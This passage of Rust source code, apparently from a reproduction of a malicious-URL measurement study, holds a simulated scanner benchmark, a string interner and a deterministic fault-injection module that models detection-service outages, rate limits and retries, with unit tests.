        ToolBench { web, virustotal: VirusTotal::new(web), quttera: Quttera::new(web) }
    }

    /// Scans `url` with `tool`; returns its malicious/benign verdict.
    ///
    /// Rejected tools are rate-modelled: on a sample that is genuinely
    /// malicious they detect with their measured accuracy
    /// (deterministically per tool×URL); on benign samples they stay
    /// quiet. VirusTotal and Quttera run their real pipelines.
    pub fn scan(&self, tool: ToolId, url: &Url) -> bool {
        match tool {
            ToolId::VirusTotal => self.virustotal.scan_url(url).is_malicious(),
            ToolId::Quttera => self.quttera.scan_url(url).is_malicious(),
            rate_modelled => {
                let truly_malicious = self
                    .web
                    .oracle_page(url)
                    .map(|p| p.truth.is_malicious())
                    .unwrap_or(false);
                if !truly_malicious {
                    return false;
                }
                chance(
                    &format!("{}|{}", rate_modelled.name(), url.canonical()),
                    rate_modelled.paper_accuracy(),
                )
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::build::{BenignOptions, WebBuilder};
    use slum_websim::{ContentCategory, JsAttack, Tld};

    #[test]
    fn tool_metadata_matches_paper() {
        assert_eq!(ToolId::Wepawet.paper_accuracy(), 0.0);
        assert_eq!(ToolId::UrlQuery.paper_accuracy(), 0.70);
        assert_eq!(ToolId::VirusTotal.paper_accuracy(), 1.0);
        let selected: Vec<_> = ToolId::ALL.iter().filter(|t| t.selected()).collect();
        assert_eq!(selected.len(), 2);
    }

    #[test]
    fn accuracies_monotone_in_all_order() {
        let accs: Vec<f64> = ToolId::ALL.iter().map(|t| t.paper_accuracy()).collect();
        assert!(accs.windows(2).all(|w| w[0] <= w[1]));
    }

    #[test]
    fn rejected_tools_never_flag_benign() {
        let mut b = WebBuilder::new(95);
        let site = b.benign_site(BenignOptions::default());
        let web = b.finish();
        let bench = ToolBench::new(&web);
        for tool in ToolId::ALL {
            if !tool.selected() {
                assert!(!bench.scan(tool, &site.url), "{}", tool.name());
            }
        }
    }

    #[test]
    fn wepawet_detects_nothing_even_on_malware() {
        let mut b = WebBuilder::new(96);
        let spec = b.js_site(JsAttack::HiddenIframe, Tld::Com, ContentCategory::Business, false);
        let web = b.finish();
        let bench = ToolBench::new(&web);
        assert!(!bench.scan(ToolId::Wepawet, &spec.url));
        assert!(!bench.scan(ToolId::AvgThreatLab, &spec.url));
    }

    #[test]
    fn selected_tools_detect_gold_style_malware() {
        let mut b = WebBuilder::new(97);
        let spec = b.js_site(JsAttack::DynamicIframe, Tld::Com, ContentCategory::Business, false);
        let web = b.finish();
        let bench = ToolBench::new(&web);
        assert!(bench.scan(ToolId::VirusTotal, &spec.url));
        assert!(bench.scan(ToolId::Quttera, &spec.url));
    }
}
