//! A deterministic string interner for scan-phase hot paths.
//!
//! The scan pipeline resolves the same few thousand hosts, registered
//! domains, and exchange names millions of times at paper scale; before
//! interning, every resolution allocated a fresh `String`. The interner
//! deduplicates each distinct string into a single shared `Arc<str>`,
//! so repeat resolutions are a map hit plus a reference-count bump.
//!
//! Two access layers:
//!
//! - [`Interner::intern`] returns the canonical `Arc<str>` — what the
//!   caches store and the hot path passes around;
//! - [`Interner::sym`] / [`Interner::resolve`] expose a dense
//!   [`Sym`] id per distinct string for code that wants `Copy` keys.
//!
//! Ids are assigned in first-intern order, which depends on thread
//! scheduling under a parallel scan — so ids must never leak into
//! study output (the determinism contract). The strings themselves are
//! schedule-independent, and that is all the pipeline ever emits.

use std::collections::HashMap;
use std::sync::Arc;

use parking_lot::RwLock;

/// A dense, copyable id for an interned string (see [`Interner::sym`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Sym(u32);

impl Sym {
    /// The raw index (dense, first-intern order).
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

#[derive(Default)]
struct InternerState {
    ids: HashMap<Arc<str>, Sym>,
    strings: Vec<Arc<str>>,
}

/// A thread-safe deduplicating string pool.
///
/// All methods take `&self`; lookups share a read lock and only a
/// first-ever intern of a string takes the write lock.
#[derive(Default)]
pub struct Interner {
    state: RwLock<InternerState>,
}

impl Interner {
    /// Creates an empty interner.
    pub fn new() -> Self {
        Interner::default()
    }

    /// The canonical shared copy of `s`, allocating it on first use.
    pub fn intern(&self, s: &str) -> Arc<str> {
        if let Some(hit) = self.state.read().ids.get_key_value(s) {
            return Arc::clone(hit.0);
        }
        let mut state = self.state.write();
        if let Some(hit) = state.ids.get_key_value(s) {
            return Arc::clone(hit.0);
        }
        let arc: Arc<str> = Arc::from(s);
        let sym = Sym(u32::try_from(state.strings.len()).expect("interner overflow"));
        state.strings.push(Arc::clone(&arc));
        state.ids.insert(Arc::clone(&arc), sym);
        arc
    }

    /// The dense id of `s`, interning it on first use.
    pub fn sym(&self, s: &str) -> Sym {
        if let Some(sym) = self.state.read().ids.get(s) {
            return *sym;
        }
        self.intern(s);
        *self.state.read().ids.get(s).expect("just interned")
    }

    /// The string behind `sym`, or `None` for an id this interner never
    /// issued.
    pub fn resolve(&self, sym: Sym) -> Option<Arc<str>> {
        self.state.read().strings.get(sym.index()).map(Arc::clone)
    }

    /// Number of distinct strings interned.
    pub fn len(&self) -> usize {
        self.state.read().strings.len()
    }

    /// True when nothing has been interned.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl std::fmt::Debug for Interner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Interner").field("len", &self.len()).finish()
    }
}

// Compile-time audit: the interner is shared across scan workers.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Interner>();
    assert_send_sync::<Sym>();
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_dedupes_to_one_allocation() {
        let pool = Interner::new();
        let a = pool.intern("example.com");
        let b = pool.intern("example.com");
        assert!(Arc::ptr_eq(&a, &b));
        assert_eq!(pool.len(), 1);
        assert_eq!(&*a, "example.com");
    }

    #[test]
    fn syms_round_trip() {
        let pool = Interner::new();
        let a = pool.sym("a");
        let b = pool.sym("b");
        assert_ne!(a, b);
        assert_eq!(pool.sym("a"), a);
        assert_eq!(pool.resolve(a).as_deref(), Some("a"));
        assert_eq!(pool.resolve(b).as_deref(), Some("b"));
        assert_eq!(pool.resolve(Sym(99)), None);
    }

    #[test]
    fn concurrent_interning_agrees() {
        let pool = Interner::new();
        std::thread::scope(|scope| {
            for _ in 0..4 {
                scope.spawn(|| {
                    for i in 0..200 {
                        let s = format!("host-{}.example", i % 50);
                        let arc = pool.intern(&s);
                        assert_eq!(&*arc, s.as_str());
                        let sym = pool.sym(&s);
                        assert_eq!(pool.resolve(sym).as_deref(), Some(s.as_str()));
                    }
                });
            }
        });
        assert_eq!(pool.len(), 50);
    }
}
