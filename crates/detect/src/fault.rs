//! Deterministic fault injection for the detection services.
//!
//! The paper's scan campaign (§III-B) ran for months against services
//! that are rate-limited (the public VirusTotal API allows only a few
//! requests per minute), intermittently unavailable, and occasionally
//! just slow. Related measurement work ("A Decade of Mal-Activity
//! Reporting", "Dismantling Common Internet Services for Ad-Malware
//! Detection") shows that scanner availability gaps distort the
//! measurements themselves — so the reproduction models them.
//!
//! Everything is simulated on the *virtual* clock the crawler already
//! stamps into every [`slum_crawler` record's] `at` field:
//!
//! - a [`FaultProfile`] describes per-service outage windows,
//!   token-bucket rate limits, latency spikes and transient errors;
//! - [`FaultPlan::compile`] walks the whole request corpus once, in
//!   virtual-arrival order, and freezes a per-request
//!   [`ServiceDecision`] for every service — including the retry
//!   resolution (via [`crate::retry::RetryPolicy`]) and the per-service
//!   circuit-breaker trajectory.
//!
//! Compiling the plan *ahead of the scan* is the determinism trick:
//! the token bucket and circuit breaker are inherently order-dependent
//! state machines, but the corpus arrival order is fixed by the crawl,
//! not by scan-worker scheduling. Scan workers merely *replay* frozen
//! decisions, so verdicts, provenance and fault counters are
//! bit-identical for every `scan_workers` count.

use std::collections::HashMap;

use crate::hash::{chance, fnv1a};
use crate::retry::{BreakerState, CircuitBreaker, Resolution, RetryPolicy};

/// Virtual nanoseconds per virtual second.
const NANOS_PER_SEC: u64 = 1_000_000_000;

/// The detection services the scan pipeline consults.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ScanService {
    /// The VirusTotal-style multi-engine aggregator.
    VirusTotal,
    /// The Quttera-style heuristic scanner.
    Quttera,
    /// The six-list blacklist consensus.
    Blacklist,
}

impl ScanService {
    /// Every service, in pipeline consultation order.
    pub const ALL: [ScanService; 3] =
        [ScanService::VirusTotal, ScanService::Quttera, ScanService::Blacklist];

    /// Stable metric-segment name.
    pub fn name(self) -> &'static str {
        match self {
            ScanService::VirusTotal => "virustotal",
            ScanService::Quttera => "quttera",
            ScanService::Blacklist => "blacklist",
        }
    }

    /// Index into per-service arrays.
    pub fn index(self) -> usize {
        match self {
            ScanService::VirusTotal => 0,
            ScanService::Quttera => 1,
            ScanService::Blacklist => 2,
        }
    }
}

/// What kind of fault a request ran into.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FaultKind {
    /// The service is inside a scheduled outage window.
    Outage,
    /// The token bucket ran dry (HTTP-429 shape).
    RateLimit,
    /// A latency spike pushed the request past its deadline.
    LatencySpike,
    /// A one-off transient error (connection reset, 5xx).
    Transient,
}

impl FaultKind {
    /// Stable metric-segment name.
    pub fn name(self) -> &'static str {
        match self {
            FaultKind::Outage => "outage",
            FaultKind::RateLimit => "rate_limit",
            FaultKind::LatencySpike => "latency_spike",
            FaultKind::Transient => "transient",
        }
    }
}

/// A scan-service error, carrying when (on the virtual clock) retries
/// would start succeeding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScanError {
    /// Which service failed.
    pub service: ScanService,
    /// What went wrong.
    pub kind: FaultKind,
    /// Virtual second at which the fault clears for this request.
    pub clears_at_secs: u64,
}

impl std::fmt::Display for ScanError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{} {} (clears at t={}s)",
            self.service.name(),
            self.kind.name(),
            self.clears_at_secs
        )
    }
}

/// Fault parameters for one service.
#[derive(Debug, Clone, PartialEq)]
pub struct ServiceFaultProfile {
    /// Number of seeded outage windows across the study span.
    pub outage_windows: u32,
    /// Length of each outage window (virtual seconds).
    pub outage_secs: u64,
    /// Token-bucket refill rate (requests per virtual minute;
    /// 0 disables rate limiting).
    pub rate_per_minute: u32,
    /// Token-bucket capacity (burst size).
    pub burst: u32,
    /// Transient-error probability per request, in per-mille.
    pub transient_per_mille: u32,
    /// Latency-spike probability per request, in per-mille.
    pub spike_per_mille: u32,
    /// How long a spiked request keeps timing out (virtual seconds).
    pub spike_penalty_secs: u64,
}

impl ServiceFaultProfile {
    /// A service that never fails.
    pub fn reliable() -> Self {
        ServiceFaultProfile {
            outage_windows: 0,
            outage_secs: 0,
            rate_per_minute: 0,
            burst: 0,
            transient_per_mille: 0,
            spike_per_mille: 0,
            spike_penalty_secs: 0,
        }
    }

    /// True when this service can never produce a fault.
    pub fn is_inert(&self) -> bool {
        self.outage_windows == 0
            && self.rate_per_minute == 0
            && self.transient_per_mille == 0
            && self.spike_per_mille == 0
    }
}

/// A named, seeded fault-injection profile for the whole detection
/// stack.
#[derive(Debug, Clone, PartialEq)]
pub struct FaultProfile {
    /// Profile name (echoed in reports; `none` is the inert default).
    pub name: String,
    /// Salt mixed with the study seed, so the same corpus can be
    /// faulted independently per profile.
    pub seed_salt: u64,
    /// Per-service fault parameters, indexed by [`ScanService::index`].
    pub services: [ServiceFaultProfile; 3],
    /// Retry discipline applied to every faulted request.
    pub retry: RetryPolicy,
    /// Consecutive exhausted-budget failures that trip a service's
    /// circuit breaker (0 disables the breaker).
    pub breaker_threshold: u32,
    /// Breaker cooldown before a half-open trial (virtual seconds).
    pub breaker_cooldown_secs: u64,
}

impl Default for FaultProfile {
    fn default() -> Self {
        FaultProfile::none()
    }
}

impl FaultProfile {
    /// The inert profile: no faults, no retries, no breaker. This is
    /// the [`Default`], so fault injection is strictly opt-in.
    pub fn none() -> Self {
        FaultProfile {
            name: "none".to_string(),
            seed_salt: 0,
            services: [
                ServiceFaultProfile::reliable(),
                ServiceFaultProfile::reliable(),
                ServiceFaultProfile::reliable(),
            ],
            retry: RetryPolicy::no_retries(),
            breaker_threshold: 0,
            breaker_cooldown_secs: 0,
        }
    }

    /// The moderate operational profile: VirusTotal rate-limited at the
    /// public-API tier with occasional outages, Quttera with one outage
    /// window and some transient noise, blacklists nearly always up.
    pub fn default_profile() -> Self {
        FaultProfile {
            name: "default".to_string(),
            seed_salt: 0xfa07,
            services: [
                // VirusTotal: the public API is hard-capped at a few
                // requests/minute; modest outage + spike noise on top.
                ServiceFaultProfile {
                    outage_windows: 2,
                    outage_secs: 600,
                    rate_per_minute: 4,
                    burst: 4,
                    transient_per_mille: 15,
                    spike_per_mille: 10,
                    spike_penalty_secs: 30,
                },
                // Quttera: no hard rate cap, but less reliable overall.
                ServiceFaultProfile {
                    outage_windows: 1,
                    outage_secs: 900,
                    rate_per_minute: 0,
                    burst: 0,
                    transient_per_mille: 10,
                    spike_per_mille: 5,
                    spike_penalty_secs: 20,
                },
                // Blacklist snapshots are local once downloaded; only
                // rare transient refresh failures.
                ServiceFaultProfile {
                    transient_per_mille: 5,
                    ..ServiceFaultProfile::reliable()
                },
            ],
            retry: RetryPolicy::default(),
            breaker_threshold: 8,
            breaker_cooldown_secs: 120,
        }
    }

    /// The harsh profile: long outages, a tighter VirusTotal budget and
    /// much noisier services — for stress-testing graceful degradation.
    pub fn harsh() -> Self {
        FaultProfile {
            name: "harsh".to_string(),
            seed_salt: 0xbad5_eed,
            services: [
                ServiceFaultProfile {
                    outage_windows: 4,
                    outage_secs: 1_800,
                    rate_per_minute: 2,
                    burst: 2,
                    transient_per_mille: 60,
                    spike_per_mille: 40,
                    spike_penalty_secs: 90,
                },
                ServiceFaultProfile {
                    outage_windows: 3,
                    outage_secs: 1_200,
                    rate_per_minute: 0,
                    burst: 0,
                    transient_per_mille: 40,
                    spike_per_mille: 25,
                    spike_penalty_secs: 60,
                },
                ServiceFaultProfile {
                    outage_windows: 1,
                    outage_secs: 600,
                    transient_per_mille: 20,
                    ..ServiceFaultProfile::reliable()
                },
            ],
            retry: RetryPolicy { max_retries: 3, ..RetryPolicy::default() },
            breaker_threshold: 4,
            breaker_cooldown_secs: 300,
        }
    }

    /// Parses a profile by CLI name (`none`/`off`, `default`, `harsh`).
    pub fn parse(name: &str) -> Option<FaultProfile> {
        match name {
            "none" | "off" => Some(FaultProfile::none()),
            "default" => Some(FaultProfile::default_profile()),
            "harsh" => Some(FaultProfile::harsh()),
            _ => None,
        }
    }

    /// Every named profile (for help text).
    pub const NAMES: [&'static str; 3] = ["none", "default", "harsh"];

    /// The parameters of one service.
    pub fn service(&self, service: ScanService) -> &ServiceFaultProfile {
        &self.services[service.index()]
    }

    /// True when the profile can never inject a fault.
    pub fn is_inert(&self) -> bool {
        self.services.iter().all(ServiceFaultProfile::is_inert)
    }

    /// Validates the profile's parameters.
    ///
    /// # Errors
    ///
    /// Returns a human-readable description of the first invalid field:
    /// per-mille probabilities above 1000, a rate limit with a zero
    /// burst, or an outage schedule with zero-length windows.
    pub fn validate(&self) -> Result<(), String> {
        for (service, p) in ScanService::ALL.iter().zip(&self.services) {
            let name = service.name();
            if p.transient_per_mille > 1000 || p.spike_per_mille > 1000 {
                return Err(format!("{name}: per-mille probabilities must be <= 1000"));
            }
            if p.rate_per_minute > 0 && p.burst == 0 {
                return Err(format!("{name}: a rate limit needs a burst capacity >= 1"));
            }
            if p.outage_windows > 0 && p.outage_secs == 0 {
                return Err(format!("{name}: outage windows need a nonzero duration"));
            }
            if p.spike_per_mille > 0 && p.spike_penalty_secs == 0 {
                return Err(format!("{name}: latency spikes need a nonzero penalty"));
            }
        }
        Ok(())
    }
}

/// The frozen outcome of one service for one request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ServiceDecision {
    /// The service answered first try.
    #[default]
    Ok,
    /// The request hit a fault; `resolution` says whether retries
    /// eventually landed and what they cost.
    Faulted {
        /// The fault that was injected.
        kind: FaultKind,
        /// How the retry loop resolved it.
        resolution: Resolution,
    },
    /// The circuit breaker was open: the service was skipped without
    /// any attempt.
    BreakerSkip,
}

impl ServiceDecision {
    /// Whether the pipeline ultimately got an answer from the service.
    pub fn available(&self) -> bool {
        match self {
            ServiceDecision::Ok => true,
            ServiceDecision::Faulted { resolution, .. } => resolution.resolved,
            ServiceDecision::BreakerSkip => false,
        }
    }

    /// Failed attempts this decision cost (injected faults observed).
    pub fn injected(&self) -> u32 {
        match self {
            ServiceDecision::Faulted { resolution, .. } => resolution.failed_attempts,
            _ => 0,
        }
    }

    /// Retries this decision cost.
    pub fn retries(&self) -> u32 {
        match self {
            ServiceDecision::Faulted { resolution, .. } => resolution.retries,
            _ => 0,
        }
    }

    /// Virtual backoff nanoseconds this decision cost.
    pub fn backoff_nanos(&self) -> u64 {
        match self {
            ServiceDecision::Faulted { resolution, .. } => resolution.backoff_nanos,
            _ => 0,
        }
    }
}

/// Per-service state while compiling a plan.
struct ServiceCompiler {
    profile: ServiceFaultProfile,
    windows: Vec<(u64, u64)>,
    tokens: f64,
    last_refill_secs: u64,
    breaker: CircuitBreaker,
}

impl ServiceCompiler {
    /// The fault (if any) a request arriving at `at` runs into, before
    /// retries. At most one fault applies per request; outages shadow
    /// rate limits, which shadow spikes, which shadow transient noise.
    fn fault_at(&mut self, service: ScanService, key: &str, at: u64, salt: u64) -> Option<ScanError> {
        if let Some(&(_, end)) = self.windows.iter().find(|(start, end)| (*start..*end).contains(&at))
        {
            return Some(ScanError { service, kind: FaultKind::Outage, clears_at_secs: end });
        }
        if self.profile.rate_per_minute > 0 {
            let rate_per_sec = f64::from(self.profile.rate_per_minute) / 60.0;
            let elapsed = at.saturating_sub(self.last_refill_secs) as f64;
            self.tokens =
                (self.tokens + elapsed * rate_per_sec).min(f64::from(self.profile.burst));
            self.last_refill_secs = at;
            if self.tokens >= 1.0 {
                self.tokens -= 1.0;
            } else {
                let wait_secs = ((1.0 - self.tokens) / rate_per_sec).ceil() as u64;
                return Some(ScanError {
                    service,
                    kind: FaultKind::RateLimit,
                    clears_at_secs: at + wait_secs.max(1),
                });
            }
        }
        let spike_key = format!("{salt}/{}/spike/{key}", service.name());
        if chance(&spike_key, f64::from(self.profile.spike_per_mille) / 1000.0) {
            return Some(ScanError {
                service,
                kind: FaultKind::LatencySpike,
                clears_at_secs: at + self.profile.spike_penalty_secs,
            });
        }
        let transient_key = format!("{salt}/{}/transient/{key}", service.name());
        if chance(&transient_key, f64::from(self.profile.transient_per_mille) / 1000.0) {
            // Transient errors clear almost immediately: the first
            // retry after any backoff succeeds.
            return Some(ScanError {
                service,
                kind: FaultKind::Transient,
                clears_at_secs: at + 1,
            });
        }
        None
    }
}

/// The compiled fault schedule for one scan corpus: a frozen
/// [`ServiceDecision`] triple per request, plus the per-service breaker
/// trajectory. Read-only after compilation, so it is shared freely
/// across scan worker threads.
#[derive(Debug)]
pub struct FaultPlan {
    /// Decisions keyed `exchange → seq → triple` for the canonical
    /// `exchange#seq` request keys, so the scan hot path can look a
    /// record up without formatting a key ([`FaultPlan::decisions_for`]).
    decisions: HashMap<String, HashMap<u64, [ServiceDecision; 3]>>,
    /// Decisions whose keys don't parse as `exchange#seq` (plans are
    /// occasionally compiled over ad-hoc key sets in tests/tools).
    flat: HashMap<String, [ServiceDecision; 3]>,
    /// Total requests covered.
    covered: usize,
    breaker_opens: [u64; 3],
    breaker_final: [BreakerState; 3],
    injected: [u64; 3],
}

/// Splits a canonical `exchange#seq` request key; `None` when the part
/// after the last `#` is not a plain integer.
fn split_key(key: &str) -> Option<(&str, u64)> {
    let (exchange, seq) = key.rsplit_once('#')?;
    seq.parse::<u64>().ok().map(|seq| (exchange, seq))
}

impl FaultPlan {
    /// Compiles the plan: seeds per-service outage windows from
    /// `(seed, profile.seed_salt)`, then walks `requests` — `(key,
    /// virtual-arrival-seconds)` pairs — in `(at, key)` order, driving
    /// the token bucket, the per-request fault draws, the retry
    /// resolution and the circuit breaker. The walk order depends only
    /// on the corpus, never on scan scheduling, which is what makes
    /// every downstream consumer bit-identical across worker counts.
    pub fn compile(profile: &FaultProfile, seed: u64, requests: &[(String, u64)]) -> FaultPlan {
        let span_secs = requests.iter().map(|(_, at)| *at).max().unwrap_or(0) + 1;
        let salt = seed ^ profile.seed_salt.rotate_left(17);

        let mut compilers: Vec<ServiceCompiler> = ScanService::ALL
            .iter()
            .map(|service| {
                let p = profile.service(*service).clone();
                let windows = outage_windows(&p, *service, salt, span_secs);
                ServiceCompiler {
                    tokens: f64::from(p.burst),
                    last_refill_secs: 0,
                    windows,
                    breaker: CircuitBreaker::new(
                        profile.breaker_threshold,
                        profile.breaker_cooldown_secs * NANOS_PER_SEC,
                    ),
                    profile: p,
                }
            })
            .collect();

        let mut order: Vec<&(String, u64)> = requests.iter().collect();
        order.sort_by(|a, b| (a.1, &a.0).cmp(&(b.1, &b.0)));

        let mut decisions: HashMap<String, HashMap<u64, [ServiceDecision; 3]>> = HashMap::new();
        let mut flat: HashMap<String, [ServiceDecision; 3]> = HashMap::new();
        let mut covered = 0usize;
        let mut injected = [0u64; 3];
        for (key, at) in order {
            let mut triple = [ServiceDecision::Ok; 3];
            for service in ScanService::ALL {
                let i = service.index();
                let compiler = &mut compilers[i];
                if compiler.profile.is_inert() {
                    continue;
                }
                let now_nanos = at * NANOS_PER_SEC;
                if !compiler.breaker.allows(now_nanos) {
                    triple[i] = ServiceDecision::BreakerSkip;
                    continue;
                }
                match compiler.fault_at(service, key, *at, salt) {
                    None => {
                        compiler.breaker.record_success();
                    }
                    Some(error) => {
                        let resolution = profile.retry.resolve(
                            key,
                            now_nanos,
                            error.clears_at_secs * NANOS_PER_SEC,
                        );
                        injected[i] += u64::from(resolution.failed_attempts);
                        if resolution.resolved {
                            compiler.breaker.record_success();
                        } else {
                            compiler
                                .breaker
                                .record_failure(now_nanos + resolution.backoff_nanos);
                        }
                        triple[i] =
                            ServiceDecision::Faulted { kind: error.kind, resolution };
                    }
                }
            }
            let fresh = match split_key(key) {
                Some((exchange, seq)) => decisions
                    .entry(exchange.to_string())
                    .or_default()
                    .insert(seq, triple)
                    .is_none(),
                None => flat.insert(key.clone(), triple).is_none(),
            };
            if fresh {
                covered += 1;
            }
        }

        FaultPlan {
            decisions,
            flat,
            covered,
            breaker_opens: [
                compilers[0].breaker.opens(),
                compilers[1].breaker.opens(),
                compilers[2].breaker.opens(),
            ],
            breaker_final: [
                compilers[0].breaker.state(),
                compilers[1].breaker.state(),
                compilers[2].breaker.state(),
            ],
            injected,
        }
    }

    /// The decision triple for one request key (all-Ok for unknown
    /// keys, so a plan compiled over a subset degrades safely).
    pub fn decisions(&self, key: &str) -> [ServiceDecision; 3] {
        match split_key(key) {
            Some((exchange, seq)) => self.decisions_for(exchange, seq),
            None => self.flat.get(key).copied().unwrap_or_default(),
        }
    }

    /// The decision triple for the record identified by `exchange` and
    /// `seq` — the allocation-free form of [`FaultPlan::decisions`] the
    /// scan hot path uses (all-Ok for unknown records).
    pub fn decisions_for(&self, exchange: &str, seq: u64) -> [ServiceDecision; 3] {
        self.decisions
            .get(exchange)
            .and_then(|per_seq| per_seq.get(&seq))
            .copied()
            .unwrap_or_default()
    }

    /// Number of requests the plan covers.
    pub fn len(&self) -> usize {
        self.covered
    }

    /// True when the plan covers no requests.
    pub fn is_empty(&self) -> bool {
        self.covered == 0
    }

    /// Total injected faults (failed attempts) planned for a service.
    pub fn injected(&self, service: ScanService) -> u64 {
        self.injected[service.index()]
    }

    /// How many times a service's breaker tripped open during the walk.
    pub fn breaker_opens(&self, service: ScanService) -> u64 {
        self.breaker_opens[service.index()]
    }

    /// The breaker state a service ended the walk in.
    pub fn breaker_final_state(&self, service: ScanService) -> BreakerState {
        self.breaker_final[service.index()]
    }
}

/// Seeded outage windows for one service: starts uniform over the span,
/// clipped to the profile's window length.
fn outage_windows(
    profile: &ServiceFaultProfile,
    service: ScanService,
    salt: u64,
    span_secs: u64,
) -> Vec<(u64, u64)> {
    (0..profile.outage_windows)
        .map(|w| {
            let h = fnv1a(format!("{salt}/{}/outage/{w}", service.name()).as_bytes());
            let start = h % span_secs.max(1);
            (start, start.saturating_add(profile.outage_secs))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn requests(n: u64, stride_secs: u64) -> Vec<(String, u64)> {
        (0..n).map(|i| (format!("X#{i}"), i * stride_secs)).collect()
    }

    #[test]
    fn inert_profile_compiles_to_all_ok() {
        let plan = FaultPlan::compile(&FaultProfile::none(), 7, &requests(50, 10));
        assert_eq!(plan.len(), 50);
        for i in 0..50 {
            let triple = plan.decisions(&format!("X#{i}"));
            assert_eq!(triple, [ServiceDecision::Ok; 3]);
        }
        for service in ScanService::ALL {
            assert_eq!(plan.injected(service), 0);
            assert_eq!(plan.breaker_opens(service), 0);
        }
    }

    #[test]
    fn default_profile_injects_and_recovers_some() {
        let plan = FaultPlan::compile(&FaultProfile::default_profile(), 2016, &requests(400, 5));
        let total: u64 = ScanService::ALL.iter().map(|s| plan.injected(*s)).sum();
        assert!(total > 0, "default profile must inject something over 400 requests");
        let mut recovered = 0u64;
        let mut failed = 0u64;
        for i in 0..400 {
            for d in plan.decisions(&format!("X#{i}")) {
                if let ServiceDecision::Faulted { resolution, .. } = d {
                    if resolution.resolved {
                        recovered += 1;
                    } else {
                        failed += 1;
                    }
                }
            }
        }
        assert!(recovered > 0, "retries must recover transient faults");
        assert!(failed > 0, "long outages must defeat the retry budget");
    }

    #[test]
    fn compilation_is_deterministic_and_order_independent() {
        let profile = FaultProfile::harsh();
        let reqs = requests(200, 7);
        let a = FaultPlan::compile(&profile, 99, &reqs);
        let mut shuffled = reqs.clone();
        shuffled.reverse();
        let b = FaultPlan::compile(&profile, 99, &shuffled);
        for (key, _) in &reqs {
            assert_eq!(a.decisions(key), b.decisions(key), "{key}");
        }
        for service in ScanService::ALL {
            assert_eq!(a.injected(service), b.injected(service));
            assert_eq!(a.breaker_opens(service), b.breaker_opens(service));
        }
    }

    #[test]
    fn different_seeds_fault_different_requests() {
        let profile = FaultProfile::default_profile();
        let reqs = requests(300, 5);
        let a = FaultPlan::compile(&profile, 1, &reqs);
        let b = FaultPlan::compile(&profile, 2, &reqs);
        let differs = reqs.iter().any(|(key, _)| a.decisions(key) != b.decisions(key));
        assert!(differs, "seed must steer the fault schedule");
    }

    #[test]
    fn rate_limit_throttles_a_burst() {
        // 10 requests in the same virtual second against a 4-burst
        // bucket: exactly 4 admitted, 6 rate-limited (deterministic
        // because ties sort by key).
        let profile = FaultProfile {
            services: [
                ServiceFaultProfile {
                    rate_per_minute: 4,
                    burst: 4,
                    ..ServiceFaultProfile::reliable()
                },
                ServiceFaultProfile::reliable(),
                ServiceFaultProfile::reliable(),
            ],
            retry: RetryPolicy::no_retries(),
            ..FaultProfile::none()
        };
        let reqs: Vec<(String, u64)> = (0..10).map(|i| (format!("X#{i:02}"), 0)).collect();
        let plan = FaultPlan::compile(&profile, 5, &reqs);
        let limited = reqs
            .iter()
            .filter(|(key, _)| {
                matches!(
                    plan.decisions(key)[ScanService::VirusTotal.index()],
                    ServiceDecision::Faulted { kind: FaultKind::RateLimit, .. }
                )
            })
            .count();
        assert_eq!(limited, 6);
    }

    #[test]
    fn breaker_opens_under_sustained_outage() {
        // One long outage covering the whole span and no retries: the
        // breaker must trip after `breaker_threshold` failures and skip
        // later requests.
        let profile = FaultProfile {
            services: [
                ServiceFaultProfile {
                    outage_windows: 1,
                    outage_secs: 1_000_000,
                    ..ServiceFaultProfile::reliable()
                },
                ServiceFaultProfile::reliable(),
                ServiceFaultProfile::reliable(),
            ],
            retry: RetryPolicy::no_retries(),
            breaker_threshold: 3,
            breaker_cooldown_secs: 1_000_000,
            ..FaultProfile::none()
        };
        let plan = FaultPlan::compile(&profile, 11, &requests(50, 1));
        assert!(plan.breaker_opens(ScanService::VirusTotal) >= 1);
        let skips = (0..50)
            .filter(|i| {
                plan.decisions(&format!("X#{i}"))[0] == ServiceDecision::BreakerSkip
            })
            .count();
        assert!(skips > 0, "open breaker must skip requests");
    }

    #[test]
    fn decisions_for_agrees_with_string_keys() {
        let plan = FaultPlan::compile(&FaultProfile::harsh(), 42, &requests(120, 3));
        for i in 0..120u64 {
            assert_eq!(plan.decisions(&format!("X#{i}")), plan.decisions_for("X", i), "seq {i}");
        }
        assert_eq!(plan.decisions_for("unknown-exchange", 0), [ServiceDecision::Ok; 3]);
        assert_eq!(plan.len(), 120);
    }

    #[test]
    fn unparseable_keys_fall_back_to_flat_storage() {
        let reqs = vec![
            ("no-separator".to_string(), 0),
            ("trailing#text".to_string(), 5),
            ("ex#7".to_string(), 9),
        ];
        let plan = FaultPlan::compile(&FaultProfile::harsh(), 3, &reqs);
        assert_eq!(plan.len(), 3);
        for (key, _) in &reqs {
            // Whatever the storage route, every compiled key resolves.
            let _ = plan.decisions(key);
        }
        assert_eq!(plan.decisions("ex#7"), plan.decisions_for("ex", 7));
    }

    #[test]
    fn named_profiles_parse_and_validate() {
        for name in FaultProfile::NAMES {
            let profile = FaultProfile::parse(name).expect(name);
            profile.validate().expect(name);
        }
        assert_eq!(FaultProfile::parse("off").map(|p| p.name), Some("none".to_string()));
        assert!(FaultProfile::parse("chaos-monkey").is_none());
        assert!(FaultProfile::none().is_inert());
        assert!(!FaultProfile::default_profile().is_inert());
    }

    #[test]
    fn validation_rejects_nonsense() {
        let mut bad = FaultProfile::default_profile();
        bad.services[0].transient_per_mille = 1_001;
        assert!(bad.validate().is_err());

        let mut bad = FaultProfile::default_profile();
